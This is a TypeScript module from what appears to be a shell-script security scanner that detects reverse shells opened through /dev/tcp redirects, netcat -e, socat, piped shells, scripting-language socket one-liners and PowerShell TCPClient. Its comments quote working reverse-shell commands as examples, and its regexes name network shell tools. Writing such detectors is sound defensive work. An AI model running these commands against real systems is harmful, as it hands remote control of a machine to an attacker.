/** Shells whose input and output are a network connection. */
import type { CommandFact, ScriptFacts, Word } from "../../../src/shell/facts.ts";
import { pipelineAfter } from "../../../src/shell/sinks.ts";
import { quote } from "../../../src/source/quote.ts";
import { classifyHost } from "../../data/network-targets.ts";
import { executedFile, stdinRole } from "../../data/interpreters.ts";
import { wordText } from "../../data/word-text.ts";
import type { Indicator } from "./indicator.ts";

const shell = /^(?:ba|z|da|k|a)?sh(?:\.exe)?$|^cmd(?:\.exe)?$|^powershell$|^pwsh$/u;
const netcat = /^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)$/u;

export function* reverseShellsIn(facts: ScriptFacts): Iterable<Indicator> {
  for (const command of facts.commands) {
    const found =
      connectedShell(command, facts) ?? netcatShell(command) ?? socatShell(command) ?? pipedShell(command) ?? coded(command);
    if (found !== undefined) yield found;
  }
  yield* powershellSockets(facts);
}

/** `bash -i >& /dev/tcp/host/port 0>&1`, and `exec 5<>/dev/tcp/host/port; sh <&5`. Writing to such a file alone waits for a port. */
function connectedShell(command: CommandFact, { commands }: ScriptFacts): Indicator | undefined {
  const { name, redirects, args } = command;
  if (name === undefined || !shell.test(name)) return undefined;
  const target = redirects.map((redirect) => redirect.target).find((word) => word !== undefined && isSocket(word));
  const isDriven = args.some(({ literal }) => /^-\w*i\w*$/u.test(literal ?? "")) || redirects.some(readsIt);
  if (target !== undefined && isDriven) return opens(target);
  const descriptor = redirects.find(({ operator }) => operator === "<&")?.target?.literal;
  const opened = descriptor === undefined ? undefined : socketAt(Number(descriptor), commands);
  return opened && opens(opened);
}

function readsIt({ operator, fd, target }: CommandFact["redirects"][number]): boolean {
  return fd === 0 || (operator.startsWith("<") && target !== undefined && isSocket(target));
}

function socketAt(descriptor: number, commands: readonly CommandFact[]): Word | undefined {
  return commands
    .flatMap(({ redirects }) => redirects)
    .find(({ operator, fd, target }) => operator === "<>" && fd === descriptor && target !== undefined && isSocket(target))
    ?.target;
}

function isSocket(word: Word): boolean {
  const host = /^\/dev\/(?:tcp|udp)\/([^/]+)\//u.exec(wordText(word))?.[1];
  return host !== undefined && classifyHost(host) !== "local";
}

function opens(word: Word): Indicator {
  return { span: word.span, says: `This gives a shell to whoever answers at ${quote(wordText(word))}` };
}

/** `nc -e /bin/sh host 4444`. */
function netcatShell({ name, args }: CommandFact): Indicator | undefined {
  if (name === undefined || !netcat.test(name)) return undefined;
  const at = args.findIndex(({ literal }) => /^(?:-\w*[ec]|--exec|--sh-exec)$/u.test(literal ?? ""));
  const program = at === -1 ? undefined : args[at + 1];
  if (program === undefined || !isShellPath(wordText(program))) return undefined;
  return { span: program.span, says: `${quote(name)} gives a shell to whoever is at the other end of the connection` };
}

function isShellPath(path: string): boolean {
  return shell.test((path.split(" ")[0] ?? "").replace(/^.*[/\\]/u, ""));
}

/** `socat exec:'bash -li',pty tcp:host:4444`. */
function socatShell({ name, args }: CommandFact): Indicator | undefined {
  if (name !== "socat") return undefined;
  const program = args.find((word) => {
    const path = /^(?:exec|system):["']?([^,"']+)/iu.exec(wordText(word))?.[1];
    return path !== undefined && isShellPath(path);
  });
  const isConnected = args.some((word) => /^(?:tcp|udp|openssl)[46]?(?:-connect|-listen)?:/iu.test(wordText(word)));
  if (program === undefined || !isConnected) return undefined;
  return { span: program.span, says: "`socat` gives a shell to whoever is at the other end of the connection" };
}

/** `cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f` and `nc host 4444 | sh`. */
function pipedShell(command: CommandFact): Indicator | undefined {
  const { name, args, input, words } = command;
  const [first] = words;
  if (name === undefined || first === undefined || !shell.test(name) || input.kind === "heredoc" || input.kind === "here-string")
    return undefined;
  if (executedFile(command) !== undefined || args.some(({ literal }) => /^-\w*c$/u.test(literal ?? ""))) return undefined;
  const isFed = input.kind === "pipe" && stdinRole(command) === "runs";
  const from = input.kind === "pipe" ? input.from.find(isConnection) : undefined;
  if (isFed && from !== undefined)
    return { span: from.span, says: `${quote(name)} runs whatever comes over a connection of ${quote(from.name ?? "")}` };
  const isInteractive = args.some(({ literal }) => /^-\w*i\w*$/u.test(literal ?? ""));
  const to = pipelineAfter(command).find(isConnection);
  if (
    to === undefined ||
    !(isInteractive || (isFed && input.from.some(({ name: reader }) => reader === "cat" || reader === "tail")))
  )
    return undefined;
  return {
    span: first.span,
    says: `This shell sends what it prints over a connection of ${quote(to.name ?? "")}, and is driven through a pipe`,
  };
}

function isConnection({ name, args }: CommandFact): boolean {
  if (name === "openssl") return args[0]?.literal === "s_client";
  const isClient = name === "telnet" || (name !== undefined && netcat.test(name));
  return isClient && !args.some((word) => classifyHost(wordText(word)) === "local" && wordText(word) !== "");
}

const languages = /^(?:python|perl|php|ruby|node|lua)[\d.]*$/u;

/** A one-liner that connects and starts a shell on the connection. */
function coded({ name, args }: CommandFact): Indicator | undefined {
  if (name === undefined || !languages.test(name)) return undefined;
  const code = args.find(({ literal }) => {
    if (literal === undefined || literal.length > 4000) return false;
    const connects = /\bsocket\b|fsockopen|TCPSocket|net\.(?:connect|Socket|createConnection)|\bSocket\b/u.test(literal);
    const startsShell = /dup2|pty\.spawn|\/bin\/(?:ba|z|da)?sh\b|child_process|cmd\.exe|>&S/u.test(literal);
    return connects && startsShell && /connect|fsockopen|TCPSocket/u.test(literal);
  });
  return code && { span: code.span, says: `This ${quote(name)} code connects to another machine and gives it a shell` };
}

function* powershellSockets({ language, commands }: ScriptFacts): Iterable<Indicator> {
  if (language !== "powershell") return;
  const runs = commands.some(({ name }) => name === "iex" || name === "invoke-expression");
  const socket = commands.flatMap(({ words }) => words).find((word) => /Net\.Sockets\.TCPClient/iu.test(wordText(word)));
  if (runs && socket !== undefined)
    yield { span: socket.span, says: "This connects to another machine and runs what that sends" };
}
